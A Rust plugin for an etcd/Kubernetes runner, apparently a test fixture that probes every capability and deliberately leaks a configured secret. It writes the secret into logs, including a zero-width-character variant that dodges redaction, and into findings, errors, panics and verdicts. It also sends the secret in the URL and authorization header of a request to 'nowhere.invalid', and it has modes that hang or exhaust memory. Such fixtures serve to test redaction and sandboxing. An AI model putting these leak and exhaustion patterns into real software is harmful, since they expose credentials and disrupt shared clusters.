//! A plugin that imports every capability, asks what its settings say, and tells what it was answered: a finding for each
//! question. It is told secrets, too, and says them wherever a plugin can say anything.

use std::collections::BTreeMap;

use runner_plugin::kubernetes::Resource;
use runner_plugin::prelude::*;
use runner_plugin::{etcd, http, probes, random, secrets};
use serde::Deserialize;

/// What it asks, and how it tells the secret.
#[derive(Default, Deserialize)]
#[serde(rename_all = "camelCase", deny_unknown_fields, default)]
struct Curious {
    asks: Vec<Ask>,
    /// The secret that it tells, by its name.
    secret: Option<String>,
    /// How it tells it in its check.
    tells: Vec<Tell>,
    /// How its checks end.
    ends: End,
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase", rename_all_fields = "camelCase", deny_unknown_fields)]
enum Ask {
    Http {
        #[serde(default = "get")]
        method: String,
        url: String,
        #[serde(default)]
        headers: BTreeMap<String, String>,
        #[serde(default)]
        body: String,
        timeout_ms: Option<u32>,
    },
    EtcdGet(String),
    EtcdList {
        prefix: String,
        limit: u32,
    },
    EtcdStatus(String),
    Random(usize),
    Memory,
    Object {
        api_version: String,
        kind: String,
        name: String,
    },
    Secret(String),
}

#[derive(Clone, Copy, Deserialize)]
#[serde(rename_all = "camelCase")]
enum Tell {
    Log,
    Finding,
    /// A request to nowhere, with the secret in its URL, and the error of it.
    HttpError,
}

#[derive(Clone, Copy, Default, Deserialize)]
#[serde(rename_all = "camelCase")]
enum End {
    #[default]
    Well,
    Error,
    Panic,
    Loop,
    Memory,
    TooRandom,
}

fn get() -> String {
    "GET".to_owned()
}

impl Plugin for Curious {
    fn validate(&self) -> Vec<Problem> {
        // What is wrong with settings is told by the same means.
        match self.secret.as_deref().filter(|name| name.ends_with("-in-settings")).map(revealed) {
            Some(text) => vec![Problem::new(text.clone(), format!("is {text}"))],
            None => Vec::new(),
        }
    }
}

impl HealthCheck for Curious {
    fn check(&self, _: &Cluster, _: &Newcomer) -> Result<Vec<Finding>> {
        let mut findings: Vec<_> = self.asks.iter().map(Ask::ask).collect();
        let secret = self.secret.as_deref().map(revealed).unwrap_or_default();
        for tell in &self.tells {
            findings.extend(tell.tell(&secret));
        }
        match self.ends {
            End::Well => Ok(findings),
            End::Error => Err(Error::new(format!("it does not work with {secret}"))),
            End::Panic => panic!("it does not work with {secret}"),
            End::Loop => loop {
                std::hint::black_box(());
            },
            End::Memory => {
                let mut kept: Vec<Vec<u8>> = Vec::new();
                loop {
                    kept.push(random::bytes(1 << 16));
                    kept.push(vec![1; 1 << 20]);
                }
            }
            End::TooRandom => loop {
                drop(std::hint::black_box(random::bytes(4096)));
            },
        }
    }
}

impl Promotion for Curious {
    fn evaluate(&self, _: &Cluster, _: &Member, window: &Samples) -> Result<Verdict> {
        let Some(secret) = self.secret.as_deref().map(revealed) else { return Ok(Verdict::Approve) };
        match window.last() {
            Some(last) if last.lag() == 0 => Ok(Verdict::reject(format!("{secret} is wrong"))),
            _ => Ok(Verdict::wait(format!("waits for {secret}"))),
        }
    }
}

impl Notifier for Curious {
    fn notify(&self, _: &[Event]) -> Result<()> {
        match self.secret.as_deref().map(revealed) {
            Some(secret) => Err(Error::new(format!("cannot tell {secret}"))),
            None => Ok(()),
        }
    }
}

impl Ask {
    fn ask(&self) -> Finding {
        let (code, answer) = match self {
            Self::Http { method, url, headers, body, timeout_ms } => {
                let mut request = http::Request::new(method, url).body(body.as_bytes());
                request.timeout_ms = *timeout_ms;
                for (name, value) in headers {
                    request = request.header(name, value);
                }
                ("http", request.send().map(|answer| format!("{} {}", answer.status, answer.text())))
            }
            Self::EtcdGet(key) => {
                ("etcd-get", etcd::get(key).map(|found| found.map_or("none".to_owned(), |entry| entry.text())))
            }
            Self::EtcdList { prefix, limit } => {
                let keys = |found: Vec<etcd::Entry>| found.into_iter().map(|entry| entry.key).collect::<Vec<_>>().join(" ");
                ("etcd-list", etcd::list(prefix, *limit).map(keys))
            }
            Self::EtcdStatus(member) => ("etcd-status", etcd::status(member).map(|status| status.version)),
            Self::Random(length) => ("random", Ok(random::bytes(*length).len().to_string())),
            Self::Memory => ("memory", probes::memory().map(|memory| (memory.total > memory.available).to_string())),
            Self::Object { api_version, kind, name } => {
                let found = Resource::new(api_version, kind).get(name);
                ("object", found.map(|object| object.map_or("none".to_owned(), |object| object.to_string())))
            }
            Self::Secret(name) => ("secret", secrets::get(name).map(|secret| secret.reveal().len().to_string())),
        };
        Finding::info(code, answer.unwrap_or_else(|failure| failure.to_string()))
    }
}

impl Tell {
    fn tell(self, secret: &str) -> Option<Finding> {
        match self {
            Self::Log => {
                log::warn(format!("the secret is {secret}, in JSON {}", serde_json::Value::from(secret)));
                log::info(format!("hidden: {}", secret.replace('-', "-\u{200b}")));
                None
            }
            Self::Finding => {
                let finding = Finding::warning(secret, format!("it is {secret}")).remedy(format!("forget {secret}"));
                Some(Finding { member: Some(secret.to_owned()), ..finding })
            }
            Self::HttpError => {
                let url = format!("https://nowhere.invalid/{secret}?token={secret}");
                let text = match http::get(url.as_str()).header("authorization", secret).send() {
                    Ok(_) => "it is somewhere".to_owned(),
                    Err(failure) => format!("GET {url}: {failure}"),
                };
                Some(Finding::warning("http", text))
            }
        }
    }
}

fn revealed(name: &str) -> String {
    secrets::get(name).map(|secret| secret.reveal()).unwrap_or_default()
}

runner_plugin::export!(Curious: HealthCheck, Promotion, Notifier);
